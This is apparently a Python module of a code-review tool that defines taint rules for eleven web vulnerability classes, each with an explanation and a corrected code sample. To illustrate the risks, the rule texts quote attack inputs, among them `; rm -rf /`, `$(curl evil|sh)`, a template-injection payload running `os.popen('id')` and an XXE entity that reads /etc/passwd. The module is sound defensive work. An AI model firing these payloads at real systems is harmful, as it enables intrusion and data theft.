"""The taint rules: one per sink kind, with the documentation `reviewer explain` prints.

The first paragraph of each doc is the "why" quoted in findings; `FIXES` holds the corrected code
shown with every finding of the rule.
"""

from __future__ import annotations

from reviewer.analyzers.base import Rule
from reviewer.config import TAINT_KINDS
from reviewer.findings import Category, Confidence, Severity

_SAFE = "Stays silent when the value is converted (`int()`, `uuid.UUID()`), checked against an allowlist or regex before use, or passed as a bound parameter."


def _rule(rule_id: str, title: str, severity: Severity, cwe: int, why: str, more: str) -> Rule:
    doc = f"{why}\n\n{more}\n\n{_SAFE}\n\nSources: Flask `request.args/form/values/json/files/headers/cookies/data`, route parameters; Django `request.GET/POST/body/FILES/META/COOKIES`, URL kwargs, `cleaned_data`; DRF `request.data/query_params`, `initial_data`; FastAPI/Starlette path and query parameters; aiohttp `match_info/query/post()`. `sys.argv`/`os.environ` count at low severity."
    return Rule(rule_id, title, Category.SECURITY, severity, doc, cwe, Confidence.HIGH)


RULES: tuple[Rule, ...] = (
    _rule("SEC101", "SQL built from request data", Severity.HIGH, 89,
          "Request data is interpolated into SQL text, so the caller can rewrite the query: read other users' rows, bypass filters, or drop tables. Identifiers and ORDER BY columns are as dangerous as values, and they cannot be bound as parameters.",
          "Sinks: `cursor.execute`/`executemany`, SQLAlchemy `text()`/`literal_column()`, Django `raw()`, `extra()`, `RawSQL`, `pandas.read_sql`. Bind values as parameters; map identifiers through a fixed dict of allowed columns."),
    _rule("SEC102", "Shell command built from request data", Severity.HIGH, 78,
          "Request data reaches a shell or the program name of a process: `; rm -rf /` or `$(curl evil|sh)` runs with the service's privileges.",
          "Sinks: `os.system`, `os.popen`, `subprocess.*` with `shell=True` or a tainted program, `asyncio.create_subprocess_shell`, `os.exec*`. An argument list without a shell is not flagged unless the program itself is request-controlled; `shlex.quote` sanitises."),
    _rule("SEC103", "File path built from request data", Severity.HIGH, 22,
          "A request-controlled path can contain `../` or be absolute, so the service reads, overwrites or deletes files outside the intended directory (path traversal, zip slip).",
          "Sinks: `open`, `send_file`, `send_from_directory`'s directory, `FileResponse`, `shutil`, `os.remove` and friends, `pathlib` reads and writes, archive `extractall`. Sanitisers: `secure_filename`, `os.path.basename`, `safe_join`, or a `realpath`/`commonpath`/`is_relative_to` containment check."),
    _rule("SEC104", "Server-side request to a request-controlled URL (SSRF)", Severity.HIGH, 918,
          "The service fetches a URL the caller chose, so the caller can reach internal hosts, cloud metadata (`169.254.169.254`) and admin ports from inside your network.",
          "Sinks: `requests`/`httpx` calls, `urllib.request.urlopen`, client sessions. A fixed `https://host/` prefix or a host allowlist check (`urlparse(url).hostname in ALLOWED_HOSTS`) makes it safe."),
    _rule("SEC105", "Template compiled from request data", Severity.HIGH, 1336,
          "A template built from request text is code: `{{ cycler.__init__.__globals__.os.popen('id').read() }}` runs commands on the server (server-side template injection).",
          "Sinks: `render_template_string`, `jinja2.Template`, `Environment.from_string`, Django `Template()`, Mako `Template`. Pass request data as context variables of a fixed template instead."),
    _rule("SEC106", "HTML built from request data marked safe", Severity.MEDIUM, 79,
          "`mark_safe`, `Markup`, `SafeString`, a formatted `format_html` string or an `HttpResponse` of interpolated text switch off escaping, so request data becomes script in the victim's browser (XSS).",
          "Use `format_html('<b>{}</b>', value)` or `Markup('<b>{}</b>').format(value)` which escape their arguments, or `escape()` the value first."),
    _rule("SEC107", "Redirect to a request-controlled URL", Severity.MEDIUM, 601,
          "Redirecting to a URL taken from the request (`?next=`) lets anyone craft links on your domain that forward victims to a phishing site (open redirect).",
          "Sinks: Flask/Django/Starlette/aiohttp redirects. Safe: `url_for`/`reverse`, a fixed `/path` prefix, or `url_has_allowed_host_and_scheme(url, allowed_hosts={request.get_host()})` guarding the redirect."),
    _rule("SEC108", "Code evaluated from request data", Severity.CRITICAL, 94,
          "`eval`, `exec` and `compile` on request data run the caller's Python inside the service: full remote code execution.",
          "Parse data with `json.loads` or `ast.literal_eval`, and dispatch actions through an explicit dict of allowed functions."),
    _rule("SEC109", "Request data deserialised unsafely", Severity.HIGH, 502,
          "`pickle`, `marshal`, `jsonpickle`, `shelve` and `yaml.load` without a safe loader construct arbitrary objects from the payload: a crafted body is remote code execution.",
          "Use `json.loads`, `yaml.safe_load`, or a schema (pydantic, DRF serializer) for request bodies; never unpickle data that crossed a trust boundary."),
    _rule("SEC110", "XML from request data parsed with entity resolution", Severity.HIGH, 611,
          "Parsers that resolve external entities read local files (`<!ENTITY x SYSTEM 'file:///etc/passwd'>`) and reach internal URLs (XXE); entity expansion exhausts memory.",
          "lxml without `XMLParser(resolve_entities=False, no_network=True)` is high severity; stdlib `xml.*` parsers on request data are medium (they expand entities). Use `defusedxml`."),
    _rule("SEC111", "Regular expression built from request data", Severity.LOW, 1333,
          "A request-supplied pattern such as `(a+)+$` makes the regex engine backtrack for minutes on a short input, pinning a worker (ReDoS).",
          "Escape user text with `re.escape()` before embedding it in a pattern, or search with `in`/`str.find`."),
)
KINDS = TAINT_KINDS  # one list, shared with config validation
RULE_BY_KIND: dict[str, Rule] = dict(zip(KINDS, RULES))

FIXES: dict[str, str] = {
    "sql": "SORTABLE = {'name': 'name', 'created': 'created_at'}\ncolumn = SORTABLE.get(request.args.get('sort'), 'id')\ndb.execute(text(f'SELECT * FROM users WHERE org_id = :org ORDER BY {column}'), {'org': org_id})",
    "shell": "subprocess.run(['ping', '-c', '1', '--', host], check=True, timeout=10)  # argv list, no shell",
    "path": "name = secure_filename(request.args['name'])\ntarget = (UPLOAD_DIR / name).resolve()\nif not target.is_relative_to(UPLOAD_DIR):\n    abort(404)\nreturn send_file(target)",
    "ssrf": "ALLOWED_HOSTS = {'api.partner.example'}\nif urlparse(url).hostname not in ALLOWED_HOSTS:\n    abort(400)\nrequests.get(url, timeout=10, allow_redirects=False)",
    "template": "return render_template_string('Hello {{ name }}', name=request.args.get('name', ''))",
    "html": "return format_html('<p>Hello {}</p>', request.GET.get('name', ''))",
    "redirect": "target = request.GET.get('next', '/')\nif not url_has_allowed_host_and_scheme(target, allowed_hosts={request.get_host()}, require_https=request.is_secure()):\n    target = '/'\nreturn redirect(target)",
    "code": "value = ast.literal_eval(request.form['value'])  # literals only\nresult = OPERATIONS[request.form['op']](value)  # explicit dispatch table",
    "deserialize": "payload = json.loads(request.body)  # or yaml.safe_load(...)",
    "xxe": "import defusedxml.ElementTree as ET\ntree = ET.fromstring(request.body)",
    "regex": "pattern = re.compile(re.escape(request.args['q']), re.IGNORECASE)",
}


def fix_example(kind: str) -> str:
    return FIXES[kind]
